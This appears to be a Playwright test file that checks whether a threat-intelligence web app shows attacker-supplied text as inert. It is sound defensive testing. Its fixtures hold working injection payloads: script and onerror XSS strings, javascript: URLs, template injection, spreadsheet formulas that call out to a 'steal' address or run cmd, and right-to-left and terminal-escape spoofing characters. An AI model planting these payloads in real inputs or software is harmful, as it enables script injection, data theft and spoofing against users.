// What attackers write about themselves is shown, and does nothing: no script, no
// request, no text that hides or turns around, in whatever view it comes up.
import assert from 'node:assert/strict';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { after, before, test } from 'node:test';

import type { Browser, Frame, Page } from 'playwright-core';

import { absent, accessible, browser, empty, shot, visit, type Server } from './kit';

const skip = absent() || false;
let server: Server;
let chrome: Browser;
let files = '';
let its = '';

const rtl = '\u202e';
const zero = '\u200b\u2060\ufeff';
const escape = '\u001b[31m\u001b]0;owned\u0007';
const script = '<script>alert(1)</script>';
const image = '<img src=x onerror=alert(2)>';
const call = 'javascript:alert(3)';
const formula = '=HYPERLINK("http://192.0.2.9/steal","click")';
const telling = `${script}${image}${call}`;

/** Registrations of three names that hang together, each field an attack. */
const registrations = [
  {
    name: `${script}${rtl}gpj.exe`,
    org: `${image} Ltd`,
    registrar: `"><svg/onload=alert(4)> ${zero}Domains`,
    title: telling,
  },
  { name: `${formula}${escape}`, org: `${image} Ltd`, registrar: `${call} Domains`, title: telling },
  {
    name: `{{constructor.constructor('alert(5)')()}}`,
    org: `${image} Ltd`,
    registrar: '@SUM(1+1)*cmd|calc',
    title: telling,
  },
];
const names = ['evil.example', 'c2.example', 'c3.example'];

before(async () => {
  if (skip) return;
  [server, chrome, files] = await Promise.all([empty(), browser(), mkdtemp(path.join(tmpdir(), 'clew-hostile-'))]);
  const rows = names.map((domain, i) => ({
    domain,
    ip: '192.0.2.1',
    first: '2026-01-02T00:00:00Z',
    last: '2026-02-11T00:00:00Z',
    txt: `v=${telling}`,
    ...registrations[i],
  }));
  // No value may be a megabyte long: that one is turned away, and counted.
  rows.push({ ...rows[0], domain: 'long.example', title: 'A'.repeat(1 << 20) } as (typeof rows)[0]);
  rows.push({ ...rows[0], domain: 'longish.example', title: `${telling} `.repeat(60) } as (typeof rows)[0]);
  const data = path.join(files, `${image.replaceAll('/', '')}.jsonl`);
  const mapping = path.join(files, 'mapping.yaml');
  await writeFile(data, rows.map((row) => JSON.stringify(row)).join('\n') + '\n');
  await writeFile(
    mapping,
    `name: hostile
title: what attackers write
layout: jsonl
window: {first: first, last: last}
facts:
  - {relation: resolves-to, subject: {column: domain, kind: domain}, object: {column: ip, kind: ip}}
  - {relation: registrant-name, subject: domain, object: name}
  - {relation: registrant-org, subject: domain, object: org}
  - {relation: registrar, subject: domain, object: registrar}
  - {relation: title, subject: {column: domain, kind: domain}, object: title}
  - {relation: txt, subject: domain, object: txt}
`,
  );
  await server.command('import', 'mapped', '--mapping', mapping, data);
  await server.command('investigate', 'evil.example', '--offline', '--seed-source', `a mail by ${telling}${rtl}`);
  const { items } = (await server.call('/cases')) as { items: { id: string }[] };
  its = items[0]?.id ?? '';
  await server.call(`/cases/${its}/notes`, {
    text: `# ${script}\n\n[a link](${call}) ![a picture](http://192.0.2.9/p.png) ${image}\n\n<iframe src="http://192.0.2.9/"></iframe><form action="http://192.0.2.9/"><input name=a></form>\n\n${rtl}${zero} https://evil.example/<b onmouseover=alert(6)>bold</b> <style>*{display:none}</style>`,
  });
  await server.call(`/cases/${its}/verdicts`, {
    verdict: 'rejected',
    indicator: 'c3.example',
    reason: `${telling}${rtl}${escape}`,
  });
});
after(async () => {
  if (skip) return;
  await chrome.close();
  await server.stop();
  await rm(files, { recursive: true, force: true });
});

/** What a document holds that it must not, in words. */
async function harmful(frame: Frame | Page): Promise<string[]> {
  return frame.evaluate(() => {
    const found: string[] = [];
    const hides = /\p{Cf}|(?![\n\r\t])\p{Cc}/u; // turns around, has no width, moves a terminal's cursor
    for (const element of document.querySelectorAll('*')) {
      const at = element.outerHTML.slice(0, 120);
      for (const { name, value } of element.attributes) {
        if (/^on/i.test(name)) found.push(`handler: ${at}`);
        if (/^(href|src|action|data)$/i.test(name) && /^\s*(javascript|data|https?):/i.test(value)) {
          if (!value.startsWith(location.origin + '/')) found.push(`address: ${at}`);
        }
        if (hides.test(value) && element.tagName !== 'INPUT') found.push(`hidden in ${name}: ${at}`);
      }
      if (/^(IMG|EMBED|OBJECT|FORM)$/.test(element.tagName) && /192\.0\.2\.9|\bx\b/.test(at)) found.push(`made: ${at}`);
    }
    const text = document.body.innerText;
    const hidden = new RegExp(`.{0,30}(?:${hides.source}).{0,10}`, 'u').exec(text);
    if (hidden) found.push(`shown raw: ${JSON.stringify(hidden[0])}`);
    return found;
  });
}

/** prompt fails when the page does not draw within a time that a person would notice. */
async function prompt(page: Page, view: string): Promise<void> {
  const took = await page.evaluate(async () => {
    const before = performance.now();
    await new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)));
    return performance.now() - before;
  });
  assert.ok(took < 3000, `${view} took ${String(Math.round(took))} ms to draw`);
}

interface Broken {
  broken: string[];
}

test('hostile text is visible and inert in every view', { skip }, async () => {
  const { page, fine, close, quiet } = await visit(chrome, server);
  await page.addInitScript(() => {
    const broken: string[] = [];
    (globalThis as unknown as Broken).broken = broken;
    addEventListener('securitypolicyviolation', (event) =>
      broken.push(`${event.violatedDirective} ${event.blockedURI}`),
    );
  });
  const look = async (view: string, ready: string): Promise<void> => {
    await page.goto('about:blank'); // so that each view is loaded anew
    await page.goto(`${server.origin}/#/${view}`);
    await page.getByText(ready).filter({ visible: true }).first().waitFor(); // what is folded holds it too
    await prompt(page, view);
    assert.deepEqual(await harmful(page), [], view);
    assert.deepEqual(await page.evaluate(() => (globalThis as unknown as Broken).broken), [], view);
    await shot(page, `hostile-${view.replace(/[^a-z]+/g, '-').slice(0, 40)}`);
  };

  await look('look?q=evil.example', '<script>alert(1)</script>');
  await page
    .getByText(String.raw`\u{202e}`)
    .first()
    .waitFor(); // it is told, not left out
  await accessible(page);
  await look('look?q=longish.example', 'more …');
  await look('corpus', '<img src=x onerror=alert(2)>');
  await look('cases', its);
  await look(`?q=${encodeURIComponent(`title:${telling}`)}`, '1 indicator recognised');

  await page.goto(`${server.origin}/#/case/${its}`);
  await page.getByRole('tab').first().waitFor();
  const tabs = await page.getByRole('tab').evaluateAll((all) => all.map((tab) => tab.id.replace('tab-', '')));
  const c2 = encodeURIComponent('domain c2.example');
  for (const tab of tabs) {
    await look(`case/${its}?tab=${tab}&sel=${c2}&rejected=1&bands=high,medium,low,coincidence`, 'evil[.]example');
    await quiet(); // what a tab asks for by itself
    assert.deepEqual(await harmful(page), [], tab);
  }
  fine();
  await close();
});

test('the report holds hostile text as text', { skip }, async () => {
  const { page, fine, close } = await visit(chrome, server);
  await page.goto(`${server.origin}/#/case/${its}?tab=report`);
  await page.frameLocator('iframe').getByRole('heading', { name: 'Summary' }).waitFor();
  const frame = page.frames().find((one) => one.url().includes('/report'));
  assert.ok(frame);
  assert.deepEqual(await harmful(frame), []);
  await page.getByLabel('Format of the report').selectOption('md');
  await page.getByRole('region', { name: 'The report as text' }).getByText('evil[.]example').first().waitFor();
  assert.deepEqual(await harmful(page), []);
  fine();
  await close();
});
